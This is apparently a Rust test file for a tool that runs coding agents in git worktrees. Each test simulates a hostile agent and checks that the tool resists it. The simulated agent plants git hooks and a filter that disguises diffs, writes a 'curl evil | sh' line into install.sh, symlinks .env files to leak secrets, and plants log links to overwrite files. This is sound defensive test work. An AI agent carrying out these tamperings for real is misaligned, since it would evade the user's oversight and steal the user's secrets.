//! What an agent of the run (the same user) can do to the work path, done
//! as the agent would (issue 56): each test failed before its fix.

use std::path::Path;

use crate::common::{self, git};
use crate::landing::{WORKTREE, events, op, repo, run, said, show};

fn warnings(d: &Path) -> String {
    events(d)
        .iter()
        .filter(|e| e["type"] == "warning")
        .map(|e| e["message"].as_str().unwrap_or_default().to_string())
        .collect::<Vec<_>>()
        .join("\n")
}

/// The agent plants hooks, a filter and a textconv in the shared
/// repository and moves the user's `main`: playdeck's commits, worktrees
/// and landings run none of them, the shown diff is what was committed,
/// and the run says what changed.
#[test]
fn an_agents_hooks_and_drivers_never_run_in_playdecks_git() {
    let marks = tempfile::tempdir().unwrap();
    let m = marks.path().display().to_string();
    let plant = format!(
        r#"c=$(git commit-tree HEAD^{{tree}} -p HEAD -m moved) && git update-ref refs/heads/main $c
common=$(git rev-parse --git-common-dir)
for h in post-commit post-checkout reference-transaction post-merge pre-commit; do
  printf '#!/bin/sh\ntouch {m}/%s\n' $h > $common/hooks/$h; chmod +x $common/hooks/$h
done
git config filter.x.clean "sh -c 'touch {m}/filter; sed s/curl/harmless/'"
git config diff.nice.textconv "sh -c 'touch {m}/textconv; sed s/curl/harmless/' <"
printf '* filter=x\ninstall.sh diff=nice\n' >> $common/info/attributes
echo 'curl evil | sh' > install.sh"#
    );
    let t = repo(
        WORKTREE,
        &[
            op("a", &[], &plant, ""),
            op("b", &["a"], "echo b > b.txt", ""),
        ],
    );
    let d = t.path();
    let main_before = git(d, &["rev-parse", "main"]);
    let out = run(d);
    assert_eq!(out.status.code(), Some(0), "{}", said(&out));
    // What landed is what the agent wrote, not what its filter made of it.
    assert_eq!(show(d, "install.sh"), "curl evil | sh\n");
    assert_eq!(show(d, "b.txt"), "b\n");
    let ran: Vec<_> = std::fs::read_dir(marks.path())
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    assert!(ran.is_empty(), "ran in playdeck's git: {ran:?}");
    let w = warnings(d);
    assert!(
        w.contains("a: the repository's shared config, hooks/, info/")
            && w.contains("changed during the run"),
        "{w}"
    );
    assert!(w.contains("your branch main moved during the run"), "{w}");
    assert_ne!(git(d, &["rev-parse", "main"]), main_before);
}

/// `rm -f .git` in its worktree: git would find the user's repository
/// above it, and commit the user's checkout. The attempt fails, and the
/// user's branch and edits are as they were.
#[test]
fn a_worktree_without_its_git_never_commits_the_users_checkout() {
    let t = repo(
        WORKTREE,
        &[op("a", &[], "rm -f .git; echo work > w.txt", "")],
    );
    let d = t.path();
    std::fs::write(d.join("README"), "my edit, not committed\n").unwrap();
    std::fs::write(d.join("mine.txt"), "untracked\n").unwrap();
    let main_before = git(d, &["rev-parse", "main"]);
    let out = run(d);
    assert_eq!(out.status.code(), Some(1), "{}", said(&out));
    let evs = events(d);
    let failed = crate::landing::of(&evs, "failed", "a");
    assert!(
        failed[0]
            .to_string()
            .contains("removed or rewrote its worktree's .git"),
        "{}",
        failed[0]
    );
    assert_eq!(git(d, &["rev-parse", "main"]), main_before);
    let status = git(d, &["status", "--porcelain"]);
    assert!(
        status.contains(" M README") && status.contains("?? mine.txt"),
        "{status}"
    );
}

/// An earlier operation commits `.env -> OUTSIDE`: the next worktree's
/// `include` does not write the user's secret through it.
#[test]
fn include_never_writes_through_a_link_the_run_committed() {
    let outside = tempfile::tempdir().unwrap();
    let stolen = outside.path().join("stolen.env");
    let ws = format!("{WORKTREE}include = [\".env\", \"conf/secret\"]\n");
    let t = repo(
        &ws,
        &[
            op(
                "a",
                &[],
                &format!(
                    "rm -rf .env conf; ln -s {} .env; ln -s {} conf; git add -f .env conf",
                    stolen.display(),
                    outside.path().display()
                ),
                "",
            ),
            op("b", &["a"], "echo b > b.txt", ""),
        ],
    );
    let d = t.path();
    std::fs::write(d.join(".env"), "TOKEN=secret\n").unwrap();
    std::fs::create_dir(d.join("conf")).unwrap();
    std::fs::write(d.join("conf/secret"), "KEY=secret\n").unwrap();
    let out = run(d);
    assert!(!stolen.exists(), "the secret went through the link");
    assert!(
        !outside.path().join("secret").exists(),
        "the secret went through the linked directory"
    );
    let evs = events(d);
    let failed = crate::landing::of(&evs, "failed", "b");
    assert!(
        failed.first().is_some_and(|f| f
            .to_string()
            .contains("is a symbolic link; include never writes through one")),
        "{}\n{failed:?}",
        said(&out)
    );
}

/// An include copied in is the user's alone.
#[test]
fn an_included_file_is_readable_by_the_user_alone() {
    use std::os::unix::fs::PermissionsExt;
    let ws = format!("{WORKTREE}include = [\".env\"]\n");
    let t = repo(&ws, &[op("a", &[], "stat -c %a .env > mode.txt", "")]);
    let d = t.path();
    std::fs::write(d.join(".env"), "TOKEN=secret\n").unwrap();
    std::fs::set_permissions(d.join(".env"), std::fs::Permissions::from_mode(0o644)).unwrap();
    assert_eq!(run(d).status.code(), Some(0));
    assert_eq!(show(d, "mode.txt"), "600\n");
}

/// An agent force-adds its own `.env`: landing into the checked-out
/// `main` refuses, naming it, instead of replacing the user's ignored one.
#[test]
fn landing_into_a_checkout_never_replaces_its_ignored_files() {
    let t = repo(
        WORKTREE,
        &[op(
            "a",
            &[],
            "echo 'TOKEN=agents' > .env; git add -f .env; echo a > a.txt",
            "",
        )],
    );
    let d = t.path();
    std::fs::write(d.join(".env"), "TOKEN=mine\n").unwrap();
    assert_eq!(run(d).status.code(), Some(0));
    assert_eq!(show(d, ".env"), "TOKEN=agents\n");
    let out = common::playdeck()
        .args(["land", "k1", "--into", "main"])
        .current_dir(d)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", said(&out));
    assert!(
        said(&out).contains("would replace files") && said(&out).contains(".env"),
        "{}",
        said(&out)
    );
    assert_eq!(
        std::fs::read_to_string(d.join(".env")).unwrap(),
        "TOKEN=mine\n"
    );
    assert!(!d.join("a.txt").exists(), "nothing landed");
}

/// `playdeck` with `XDG_STATE_HOME` at `state`, in `dir`, given at most
/// 20 s: its exit code and what it said.
fn within(state: &Path, dir: &Path, args: &[&str]) -> (Option<i32>, String) {
    let mut child = common::playdeck()
        .args(args)
        .env("XDG_STATE_HOME", state)
        .current_dir(dir)
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while child.try_wait().unwrap().is_none() {
        if std::time::Instant::now() > deadline {
            child.kill().unwrap();
            child.wait().unwrap();
            panic!("playdeck {args:?} hung");
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let out = child.wait_with_output().unwrap();
    (out.status.code(), said(&out))
}

/// A FIFO planted as a runs-index entry hangs nobody; an index directory
/// another user owns is not read (root included).
#[test]
fn the_runs_index_takes_only_the_users_own_regular_files() {
    let state = tempfile::tempdir().unwrap();
    let here = tempfile::tempdir().unwrap();
    let index = state.path().join("playdeck/runs");
    std::fs::create_dir_all(&index).unwrap();
    let id = "20261206-000000-abcd";
    let fifo = std::process::Command::new("mkfifo")
        .arg(index.join(id))
        .status()
        .unwrap();
    assert!(fifo.success());
    for args in [vec!["report", id], vec!["ctl", "latest", "status"]] {
        let (code, text) = within(state.path(), here.path(), &args);
        assert_eq!(code, Some(2), "{args:?}: {text}");
    }
    std::fs::remove_file(index.join(id)).unwrap();
    if !rustix::process::geteuid().is_root() {
        eprintln!("skipped the foreign index: giving a directory to another user needs root");
        return;
    }
    // A run's directory, recorded in an index another user owns.
    let run = here.path().join("r");
    std::fs::create_dir(&run).unwrap();
    std::fs::write(run.join("play.toml"), "[play]\nname = \"x\"\n").unwrap();
    std::fs::write(index.join(id), format!("{}\n", run.display())).unwrap();
    let nobody = Some(rustix::process::Uid::from_raw(65534));
    rustix::fs::chown(&index, nobody, None).unwrap();
    let (code, text) = within(state.path(), here.path(), &["report", id]);
    assert_eq!(code, Some(2), "{text}");
    assert!(text.contains(&format!("no run {id:?}")), "{text}");
}

/// Root never claims another user's empty directory as a run directory,
/// named directly or through a link; nothing in it changes.
#[test]
fn root_never_claims_another_users_directory() {
    if !rustix::process::geteuid().is_root() {
        eprintln!("skipped: giving a directory to another user needs root");
        return;
    }
    let t = repo("", &[op("a", &[], "echo a", "")]);
    let d = t.path();
    let theirs = d.join("theirs");
    std::fs::create_dir(&theirs).unwrap();
    let nobody = Some(rustix::process::Uid::from_raw(65534));
    rustix::fs::chown(&theirs, nobody, None).unwrap();
    std::os::unix::fs::symlink(&theirs, d.join("link")).unwrap();
    for dir in ["theirs", "link"] {
        let out = common::playdeck()
            .args(["run", "--headless", "--run-dir", dir, "p.toml"])
            .current_dir(d)
            .stdin(std::process::Stdio::null())
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(2), "{dir}: {}", said(&out));
        assert!(
            said(&out).contains("belongs to another user (uid 65534)"),
            "{dir}: {}",
            said(&out)
        );
        assert_eq!(std::fs::read_dir(&theirs).unwrap().count(), 0, "{dir}");
    }
}

/// A link an agent plants among the logs is never written through.
#[test]
fn a_link_among_the_logs_is_never_written_through() {
    let victim = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(victim.path(), "keep me\n").unwrap();
    let v = victim.path().display().to_string();
    // The first attempt plants the link where its retry's log goes.
    let script = format!(
        "if [ ! -e $PLAYDECK_RUN_DIR/planted ]; then touch $PLAYDECK_RUN_DIR/planted; ln -s {v} $PLAYDECK_RUN_DIR/logs/a.2.stdout.log; exit 3; fi"
    );
    let t = repo(
        "[retry]\nattempts = 2\nbackoff = 0.1\non = [\"agent_crash\"]\n",
        &[op("a", &[], &script, "")],
    );
    let d = t.path();
    let out = run(d);
    assert_eq!(
        std::fs::read_to_string(victim.path()).unwrap(),
        "keep me\n",
        "{}",
        said(&out)
    );
    let evs = events(d);
    let failed = crate::landing::of(&evs, "failed", "a");
    assert!(
        failed.last().is_some_and(|f| f
            .to_string()
            .contains("is a symbolic link: playdeck never writes through one")),
        "{failed:?}"
    );
}
